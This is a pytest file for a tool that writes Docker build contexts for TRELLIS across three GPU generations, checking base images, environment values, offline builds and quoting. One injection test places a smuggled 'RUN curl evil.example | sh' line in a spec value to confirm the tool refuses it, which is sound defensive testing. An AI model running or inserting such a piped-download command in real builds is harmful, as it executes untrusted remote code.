"""provision dockerfile: field note 003 ran TRELLIS in Docker for three GPU generations (sm_86, sm_89,
sm_90) with a base image, an arch list and an ATTN_BACKEND it chose by hand (`flash-attn`, which
TRELLIS silently ignores). Given the host files of those three machines, provision writes the build
context instead: a Dockerfile that BuildKit's own parser and hadolint read, whose base images are the
locked toolkit's, whose env is built for 8.6;8.9;9.0 with the spellings the spec checked, and a
compose.yaml with the spec's shm_size and a GPU reservation. Building the image needs a Docker engine
and the network (or a bundle) this machine does not have: these tests stop at the files.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import zipfile
from importlib.metadata import PackageNotFoundError, distribution
from pathlib import Path

import dockerfile
import pytest
import yaml
from dockerfile_parse import DockerfileParser

from conftest import FIXTURES, REPO
from hostile import run

HOSTS = {cc: str(FIXTURES / "hosts" / f"{name}.json") for cc, name in
         (("8.6", "rtx3090-wsl2-16g"), ("8.9", "rtx4090-linux-550"), ("9.0", "h100-cuda13"))}
NOTE_003 = [a for h in HOSTS.values() for a in ("--host", h)]
NETWORK_WORDS = ("curl", "wget", "git", "pip download", "http://", "https://", "--index-url", "--extra-index-url",
                 "mirror", "hf download", "huggingface-cli")


def _write(tmp: Path, *extra: str, out: str = "ctx"):  # type: ignore[no-untyped-def]
    r = run(["dockerfile", "trellis", *NOTE_003, "--out", str(tmp / out), *extra])
    assert r.code == 0 and "Traceback" not in r.text, r.text
    return r


def _instructions(path: Path) -> list[dockerfile.Command]:
    return list(dockerfile.parse_file(str(path)))  # BuildKit's own parser (moby/buildkit), through Go


def _runs(cmds: list[dockerfile.Command]) -> list[dockerfile.Command]:
    return [c for c in cmds if c.cmd == "RUN"]


def _apply(cmds: list[dockerfile.Command]) -> tuple[str, ...]:
    return next(c.value for c in _runs(cmds) if "apply" in c.value)


def _bundle(tmp: Path, variant: str = "cu121-pypi", missing: tuple[str, ...] = ()) -> Path:
    """A bundle's manifest as `provision mirror trellis` leaves it (its blobs do not matter here)."""
    b = tmp / "bundle"
    b.mkdir(exist_ok=True)
    (b / "manifest.json").write_text(json.dumps({"schema": 1, "created_by": "provision mirror", "artifacts": [],
                                                 "targets": {"trellis": {"variant": variant, "missing": list(missing)}}}))
    return b


def _wheelhouse(tmp: Path, leave_out: str = "") -> Path:
    """A wheelhouse as `pip download` makes it for provision's dependencies: one wheel per installed
    distribution they need, carrying its real METADATA (so its own Requires-Dist are followed); a
    dependency only Python 3.10 needs (tomli) is not installed here and gets a stub of a version
    every requirement on it accepts."""
    from packaging.requirements import Requirement
    from packaging.utils import canonicalize_name
    from packaging.version import Version

    from provision.render.dockercontext import _MARKERS, requirements

    d = tmp / "wheels"
    d.mkdir()
    queue, wanted, found = [Requirement(r) for r in requirements()], {}, {}
    while queue:
        req = queue.pop()
        if req.marker is not None and not req.marker.evaluate({**_MARKERS, "extra": ""}):
            continue
        name = canonicalize_name(req.name)
        wanted.setdefault(name, []).append(req.specifier)
        if name in found or name == canonicalize_name(leave_out):
            continue
        try:
            dist = distribution(req.name)
        except PackageNotFoundError:
            found[name] = None
            continue
        found[name] = (dist.version, dist.read_text("METADATA") or "")
        queue += [Requirement(x) for x in dist.requires or []]
    for name, got in found.items():
        if got is None:
            bounds = [Version(s.version) for spec in wanted[name] for s in spec if s.operator in (">=", "==")]
            version = str(max(bounds or [Version("1.0")]))
            got = (version, f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        base = f"{name.replace('-', '_')}-{got[0]}"
        with zipfile.ZipFile(d / f"{base}-py3-none-any.whl", "w") as z:
            z.writestr(f"{base}.dist-info/METADATA", got[1])
    return d


def test_field_note_003s_three_gpu_generations_get_one_image_built_for_all_of_them(tmp_path: Path) -> None:
    from provision.lock.facts import current
    from provision.settings import lockfiles_dir
    from provision.spec import load_target

    r = _write(tmp_path)
    ctx = tmp_path / "ctx"
    cmds = _instructions(ctx / "Dockerfile")
    spec = load_target("trellis").spec
    # the base images: the toolkit the lockfile of the chosen variant builds with, and torch's CUDA
    lock = current(spec, lockfiles_dir())["cu121-pypi"]
    assert lock.toolkit == "12.2"
    arg = next(c for c in cmds if c.cmd == "ARG")
    assert arg.value == ("BUILD_IMAGE=nvidia/cuda:12.2.2-devel-ubuntu22.04",)
    froms = [c.value for c in cmds if c.cmd == "FROM"]
    assert froms == [("${BUILD_IMAGE}", "AS", "build"), ("nvidia/cuda:12.1.1-base-ubuntu22.04",)]
    assert spec.variants["cu121-pypi"].cuda == "12.1"
    # the env is built for the union of the three GPUs, and says so on the image
    apply = _apply(cmds)
    assert apply[apply.index("--arch-list") + 1] == "8.6;8.9;9.0"
    assert apply[apply.index("--variant") + 1] == "cu121-pypi"
    parsed = DockerfileParser(path=str(ctx / "Dockerfile"))
    assert parsed.labels["provision.arch-list"] == "8.6;8.9;9.0"
    # the activation as TRELLIS accepts it: ATTN_BACKEND from the spec's choices, never field note 003's flash-attn
    env = parsed.envs
    assert env["ATTN_BACKEND"] == "xformers" and env["SPCONV_ALGO"] == "native"
    for name, var in spec.env.items():
        if getattr(var, "choices", None):
            assert env[name] in var.choices, name
    assert "flash-attn" not in (ctx / "Dockerfile").read_text()
    assert env["HF_HUB_OFFLINE"] == "1" and env["HF_HOME"] == "/opt/provision/huggingface"
    # provision run is what the container runs, listening where a published port reaches it
    entry = next(c for c in cmds if c.cmd == "ENTRYPOINT")
    cmd = next(c for c in cmds if c.cmd == "CMD")
    assert entry.json and cmd.json
    assert entry.value[1:] == ("-m", "provision") and cmd.value[:2] == ("run", "trellis")
    assert cmd.value[cmd.value.index("--host-address") + 1] == "0.0.0.0"
    health = next(c for c in cmds if c.cmd == "HEALTHCHECK")
    assert "--start-period=900s" in health.flags and "http://127.0.0.1:7860/" in health.value[-1]
    # compose: the spec's shm_size, the GPU reservation, the port on loopback only
    compose = yaml.safe_load((ctx / "compose.yaml").read_text())
    svc = compose["services"]["trellis"]
    assert spec.resources.shm_gb == 24 and svc["shm_size"] == "24gb"
    dev = svc["deploy"]["resources"]["reservations"]["devices"]
    assert dev == [{"driver": "nvidia", "count": "all", "capabilities": ["gpu"]}]
    assert svc["ports"] == ["127.0.0.1:7860:7860"] and svc["build"]["context"] == "."
    # the next step, and the tree the build copies in
    assert f"docker compose -f {ctx}/compose.yaml build" in r.out
    assert (ctx / "provision-src" / "provision" / "cli" / "docker.py").is_file()
    assert (ctx / "provision-src" / "lockfiles" / "trellis" / "cu121-pypi" / "conda-lock.yml").is_file()
    assert not (ctx / "provision-src" / "lockfiles" / "trellis2").exists()
    assert "typer" in (ctx / "provision-src" / "requirements.txt").read_text()


def test_the_final_stage_holds_no_compiler_and_not_the_build_data(tmp_path: Path) -> None:
    _write(tmp_path)
    cmds = _instructions(tmp_path / "ctx" / "Dockerfile")
    final = cmds[max(i for i, c in enumerate(cmds) if c.cmd == "FROM"):]
    copied = [c.value[0] for c in final if c.cmd == "COPY"]
    assert all("--from=build" in c.flags for c in final if c.cmd == "COPY")
    assert "/opt/provision/envs/trellis" in copied and "/opt/provision/huggingface" in copied
    assert not any(p.endswith(("/toolkits", "/sources", "/wheelhouse", "/channel", "/bundles", "/cache"))
                   or p == "/opt/provision" for p in copied)
    assert not any("apt-get" in " ".join(c.value) for c in final if c.cmd == "RUN")
    assert next(c for c in final if c.cmd == "USER").value == ("1000:1000",)


@pytest.mark.parametrize("mode", ["online", "bundle"])
def test_hadolint_has_nothing_to_warn_about(tmp_path: Path, mode: str) -> None:
    hadolint = shutil.which("hadolint") or str(Path(__import__("sys").executable).parent / "hadolint")
    extra = ["--bundle", str(_bundle(tmp_path)), "--wheels", str(_wheelhouse(tmp_path))] if mode == "bundle" else []
    _write(tmp_path, *extra)
    r = subprocess.run([hadolint, "--failure-threshold", "warning", "--format", "json",
                        str(tmp_path / "ctx" / "Dockerfile")], capture_output=True, text=True, timeout=60)
    found = json.loads(r.stdout or "[]")
    assert r.returncode == 0, [f for f in found if f["level"] in ("warning", "error")]
    # what it may still say, by choice: one RUN per step keeps each step's layer cached on its own
    assert {f["code"] for f in found} <= {"DL3059"}, found


def test_a_bundle_build_runs_nothing_that_reaches_a_network(tmp_path: Path) -> None:
    bundle, wheels = _bundle(tmp_path), _wheelhouse(tmp_path)
    r = _write(tmp_path, "--bundle", str(bundle), "--wheels", str(wheels))
    assert "offline from" in r.out
    ctx = tmp_path / "ctx"
    cmds = _instructions(ctx / "Dockerfile")
    shell = [c for c in _runs(cmds) if not c.json]
    # the one shell-form RUN: python3 for provision, from Ubuntu's archive unless BUILD_IMAGE has it
    assert len(shell) == 1 and shell[0].value[0].startswith('if python3 -c "import ensurepip, venv"')
    for c in _runs(cmds):
        if c in shell:
            continue
        line = " ".join(c.value)
        assert not [w for w in NETWORK_WORDS if w in line], line
        if "pip" in c.value:
            assert c.value[c.value.index("--find-links") - 1] == "--no-index", line
            assert "--mount=type=bind,source=wheels,target=/mnt/provision-wheels" in c.flags
    apply = _apply(cmds)
    assert "--offline" in apply and apply[apply.index("--bundle") + 1] == "/mnt/provision-bundle"
    assert any("--mount=type=bind,from=bundle,target=/mnt/provision-bundle" in c.flags for c in _runs(cmds))
    compose = yaml.safe_load((ctx / "compose.yaml").read_text())
    assert compose["services"]["trellis"]["build"]["additional_contexts"] == {"bundle": str(bundle)}
    assert sorted(p.name for p in (ctx / "wheels").glob("*.whl")) == sorted(p.name for p in wheels.glob("*.whl"))
    ignore = (ctx / ".dockerignore").read_text().splitlines()
    assert ignore[-3:] == ["*", "!provision-src", "!wheels"]


def test_a_bundle_build_needs_the_wheels_of_provision_itself_and_the_right_bundle(tmp_path: Path) -> None:
    bundle = _bundle(tmp_path)
    r = run(["dockerfile", "trellis", *NOTE_003, "--bundle", str(bundle), "--out", str(tmp_path / "ctx")])
    assert r.code == 2 and "--wheels" in r.err and "pip download" in r.err and "Traceback" not in r.text, r.text
    wheels = _wheelhouse(tmp_path, leave_out="typer")
    r = run(["dockerfile", "trellis", *NOTE_003, "--bundle", str(bundle), "--wheels", str(wheels),
             "--out", str(tmp_path / "ctx")])
    assert r.code == 2 and "lacks a CPython 3.10 linux x86_64 wheel of: typer" in r.err, r.text
    _bundle(tmp_path, variant="cu118")
    r = run(["dockerfile", "trellis", *NOTE_003, "--bundle", str(bundle), "--wheels", str(wheels),
             "--out", str(tmp_path / "ctx")])
    assert r.code == 2 and "holds trellis cu118, the image is cu121-pypi" in r.err, r.text
    _bundle(tmp_path, missing=("microsoft/TRELLIS-image-large",))
    r = run(["dockerfile", "trellis", *NOTE_003, "--bundle", str(bundle), "--wheels", str(wheels),
             "--out", str(tmp_path / "ctx")])
    assert r.code == 2 and "incomplete" in r.err and "TRELLIS-image-large" in r.err, r.text
    assert not (tmp_path / "ctx").exists()


def test_a_dockerfile_of_yours_is_kept_and_a_second_run_changes_nothing(tmp_path: Path) -> None:
    ctx = tmp_path / "ctx"
    ctx.mkdir()
    (ctx / "Dockerfile").write_text("FROM my/own:image\n")
    (ctx / "notes.md").write_text("mine\n")
    r = _write(tmp_path)
    assert "keeping yours as Dockerfile.bak" in r.out, r.out
    assert (ctx / "Dockerfile.bak").read_text() == "FROM my/own:image\n"
    assert (ctx / "notes.md").read_text() == "mine\n"
    before = {p: p.stat().st_mtime_ns for p in ctx.rglob("*") if p.is_file()}
    r = run(["dockerfile", "trellis", *NOTE_003, "--out", str(ctx), "--json"])
    assert r.code == 0, r.text
    report = json.loads(r.out)
    assert {f["action"] for f in report["files"]} == {"unchanged"}
    assert report["arch_list"] == "8.6;8.9;9.0" and report["build_image"] == "nvidia/cuda:12.2.2-devel-ubuntu22.04"
    assert report["next"][0].endswith("/compose.yaml build")
    assert {p: p.stat().st_mtime_ns for p in ctx.rglob("*") if p.is_file()} == before
    assert not (ctx / "Dockerfile.bak.1").exists()


def test_an_older_output_of_its_own_is_replaced_whole_and_a_file_you_added_is_kept(tmp_path: Path) -> None:
    import hashlib

    ctx = tmp_path / "ctx"
    _write(tmp_path)
    src = ctx / "provision-src"
    # what an older provision wrote: a module this one no longer has, listed as its own
    old = b"# from an older provision\n"
    (src / "provision" / "gone.py").write_bytes(old)
    with open(src / ".provision-files", "a") as f:
        f.write(f"{hashlib.sha256(old).hexdigest()}  provision/gone.py\n")
    r = _write(tmp_path)
    assert "replacing its own" in r.out, r.out
    assert not (src / "provision" / "gone.py").exists() and not (ctx / "provision-src.bak").exists()
    assert not [p for p in ctx.iterdir() if p.name.startswith(".provision-src")]  # no temp dir left
    # a file of yours in it: the whole directory is kept aside, nothing of it lost
    (src / "my-patch.py").write_text("# mine\n")
    r = _write(tmp_path)
    assert "keeping yours as provision-src.bak" in r.out, r.out
    assert (ctx / "provision-src.bak" / "my-patch.py").read_text() == "# mine\n"
    assert not (src / "my-patch.py").exists()


def test_dry_run_prints_the_files_and_writes_nothing(tmp_path: Path) -> None:
    r = run(["dockerfile", "trellis", "--arch-list", "8.6;8.9;9.0", "--out", str(tmp_path / "ctx"), "--dry-run"])
    assert r.code == 0, r.text
    assert "FROM nvidia/cuda:12.1.1-base-ubuntu22.04" in r.out and 'shm_size: "24gb"' in r.out
    assert "would write" in r.out and "nothing was written" in r.out
    assert not (tmp_path / "ctx").exists()


def test_an_arch_the_variant_cannot_carry_is_refused_with_the_reason(tmp_path: Path) -> None:
    r = run(["dockerfile", "trellis", "--arch-list", "8.6;12.0", "--out", str(tmp_path / "ctx")])
    assert r.code == 2 and "sm_120" in r.text and "Traceback" not in r.text, r.text
    r = run(["dockerfile", "trellis", "--host", str(FIXTURES / "hosts" / "rtx5070ti-wsl2.json"),
             "--out", str(tmp_path / "ctx")])
    assert r.code == 2 and "every host given" in r.text, r.text
    assert not (tmp_path / "ctx").exists()


def test_a_spec_value_with_a_newline_never_reaches_a_dockerfile(tmp_path: Path) -> None:
    envs = tmp_path / "envs"
    shutil.copytree(REPO / "envs", envs)
    spec = envs / "trellis.yaml"
    spec.write_text(spec.read_text().replace('GRADIO_ANALYTICS_ENABLED: "False"',
                                             'GRADIO_ANALYTICS_ENABLED: "False\\nRUN curl evil.example | sh"'))
    r = run(["dockerfile", "trellis", "--arch-list", "8.6", "--out", str(tmp_path / "ctx")],
            env={"PROVISION_ENVS": str(envs)})
    assert r.code == 2 and "GRADIO_ANALYTICS_ENABLED" in r.err and "Traceback" not in r.text, r.text
    assert not (tmp_path / "ctx").exists()


def test_the_dockerfile_rule_quotes_every_value_and_refuses_control_characters(tmp_path: Path) -> None:
    from provision.templating import UnsafeValue, _compose, _docker_filters, _dockerfile

    quote = _dockerfile("Dockerfile.j2")
    assert quote('a "b" $HOME \\') == '"a \\"b\\" \\$HOME \\\\"'
    f = _docker_filters("Dockerfile.j2")
    assert f["exec"](["python", "-c", 'print("$x")']) == '["python", "-c", "print(\\"$x\\")"]'
    for bad in ("a\nRUN x", "tab\there", "esc\x1b"):
        with pytest.raises(UnsafeValue):
            quote(bad)
        with pytest.raises(UnsafeValue):
            f["exec"](["echo", bad])
    for bad in ("two words", "a$b", 'q"', "back\\slash"):
        with pytest.raises(UnsafeValue):
            f["word"](bad)
    assert _compose("compose.yaml.j2")("/bundles/$HOME") == '"/bundles/$$HOME"'
    value = 'a "b" c'
    parsed = DockerfileParser(fileobj=io.BytesIO(f"FROM x\nENV A={quote(value)}\n".encode()))
    assert parsed.envs["A"] == value
    # BuildKit's word lexer (frontend/dockerfile/shell/lex.go, processDoubleQuote): inside "...", a
    # backslash makes the next `"`, `$` or backslash literal; so no value can expand a variable
    for value in ('$HOME', '${PATH}x', 'a\\$b', '"$(id)"', 'back\\slash\\'):
        assert _buildkit_double_quoted(quote(value)) == value


def _buildkit_double_quoted(word: str) -> str:
    assert word[0] == word[-1] == '"'
    out, i, body = [], 0, word[1:-1]
    while i < len(body):
        ch = body[i]
        assert ch not in '$"' or (i and body[i - 1] == "\\"), f"an unescaped {ch} in {word}"
        if ch == "\\" and i + 1 < len(body) and body[i + 1] in '"$\\':
            i += 1
            ch = body[i]
        out.append(ch)
        i += 1
    return "".join(out)


def test_the_tree_in_the_context_runs_on_its_own_with_the_dockerfiles_own_arguments(tmp_path: Path) -> None:
    """What the build stage runs, run here from the copied tree alone (dry run: nothing is written,
    not even to /opt/provision): the specs, templates and lockfile it needs are all in it."""
    import os
    import sys

    _write(tmp_path)
    src = tmp_path / "ctx" / "provision-src"
    apply = list(_apply(_instructions(tmp_path / "ctx" / "Dockerfile")))
    env = {**os.environ, "PYTHONPATH": str(src)}
    where = subprocess.run([sys.executable, "-c", "import provision; print(provision.__file__)"], env=env,
                           cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert where.stdout.strip() == str(src / "provision" / "__init__.py"), where
    r = subprocess.run([sys.executable, *apply[1:], "--dry-run"], env=env, cwd=tmp_path, capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "TORCH_CUDA_ARCH_LIST='8.6;8.9;9.0'" in r.stdout and "dry run: nothing was changed" in r.stdout


@pytest.mark.network
def test_the_wheelhouse_the_hint_downloads_installs_provision_on_python_3_10_with_no_index(tmp_path: Path) -> None:
    """The build stage's first steps, rehearsed on this machine: `pip download` as the error says (from
    PyPI), then a CPython 3.10 venv installs provision's dependencies from the context's wheels/ alone."""
    import os
    import shlex
    import sys

    py310 = _python310()
    if py310 is None:
        pytest.skip("no python3.10 here")
    from provision.render.dockercontext import check_wheelhouse, requirements, wheelhouse_hint

    wheels = tmp_path / "wheels"
    hint = wheelhouse_hint(requirements(), str(wheels)).split(": ", 1)[1]
    argv = shlex.split(hint)
    subprocess.run([sys.executable, "-m", *argv], check=True, capture_output=True, timeout=600)
    assert check_wheelhouse(wheels, requirements()) == []
    _write(tmp_path, "--bundle", str(_bundle(tmp_path)), "--wheels", str(wheels))
    ctx = tmp_path / "ctx"
    subprocess.run([py310, "-m", "venv", str(tmp_path / "boot")], check=True, timeout=120)
    env = {**os.environ, "PIP_CONFIG_FILE": os.devnull}
    subprocess.run([str(tmp_path / "boot" / "bin" / "python"), "-m", "pip", "install", "--no-index", "--find-links",
                    str(ctx / "wheels"), "-r", str(ctx / "provision-src" / "requirements.txt")], check=True, env=env,
                   capture_output=True, timeout=600)
    r = subprocess.run([str(tmp_path / "boot" / "bin" / "python"), "-c", "import typer, rattler, conda_lock, tomli"],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr


def _python310() -> str | None:
    """A CPython 3.10 that runs (a pyenv shim needs the real HOME, which the tests replace)."""
    import glob
    import pwd

    home = pwd.getpwuid(__import__("os").getuid()).pw_dir
    for py in [shutil.which("python3.10"), *sorted(glob.glob(f"{home}/.pyenv/versions/3.10*/bin/python3.10"))]:
        if py and subprocess.run([py, "-c", "import sys; assert sys.version_info[:2] == (3, 10)"],
                                 capture_output=True, timeout=60).returncode == 0:
            return py
    return None
